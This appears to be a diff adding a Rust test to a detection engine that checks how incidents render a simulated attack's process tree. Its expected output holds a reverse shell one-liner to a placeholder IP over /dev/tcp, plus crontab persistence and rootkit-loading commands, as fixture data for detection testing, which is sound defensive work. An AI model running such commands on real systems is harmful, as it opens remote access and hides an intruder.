@@ -401,3 +401,67 @@ fn more_findings_of_the_same_kind_update_the_incident_once_per_interval() {
     det.finish(START + 30_000, &mut out);
     assert_eq!(incidents(&out).len(), 2, "nothing new to report at the end");
 }
+
+#[test]
+fn incidents_read_back_show_the_flagged_branch_of_the_story() {
+    let engine = engine();
+    let (events, out) = run(attack_story(START), &engine, DetectConfig::default());
+    let mut all = vigil_detect::Incidents::new();
+    for e in events
+        .iter()
+        .map(OcsfEvent::to_json)
+        .chain(out.iter().cloned())
+    {
+        all.add(&e);
+    }
+    let incidents = all.incidents();
+    assert_eq!(incidents.len(), 1);
+    let inc = incidents[0];
+    assert_eq!(inc.story(), "b1d0c0de-4100-1700000001000");
+    let text = inc.to_text();
+    let lines: Vec<&str> = text.lines().collect();
+    assert!(
+        lines[0].starts_with("incident b1d0c0de-4100-1700000001000 on web-01: critical, "),
+        "{text}"
+    );
+    assert!(lines[1].contains("T1059.004 (Execution)"), "{text}");
+    // The branch: bash -> sh -> implant -> reverse shell, flagged where rules fired,
+    // with curl and chmod (nothing found) left out.
+    let tree: Vec<&str> = lines[2..]
+        .iter()
+        .copied()
+        .filter(|l| !l.contains("->"))
+        .collect();
+    assert_eq!(
+        tree,
+        [
+            "    -bash [4100]",
+            "      sh [4124]",
+            "        /tmp/.x/kworker [4126]",
+            "  !       bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1 [4127]",
+            "  !         sudo -n crontab /tmp/.x/cron [4140]",
+            "  !         insmod /tmp/.x/rk.ko [4150]",
+        ],
+        "{text}"
+    );
+    assert!(
+        text.contains("-> Reverse shell through /dev/tcp (high)"),
+        "{text}"
+    );
+    // The same from the findings alone: their lineage gives the branch.
+    let mut only = vigil_detect::Incidents::new();
+    for f in out
+        .iter()
+        .filter(|e| e["class_uid"] == 2004 || e["class_uid"] == 2005)
+    {
+        only.add(f);
+    }
+    assert_eq!(only.incidents()[0].to_text(), text);
+    let json = inc.to_json();
+    assert_eq!(json["tree"][0]["pid"], 4100);
+    assert_eq!(
+        json["tree"][0]["children"][0]["children"][0]["children"][0]["flagged"],
+        true
+    );
+    assert_eq!(json["severity"], "critical");
+}
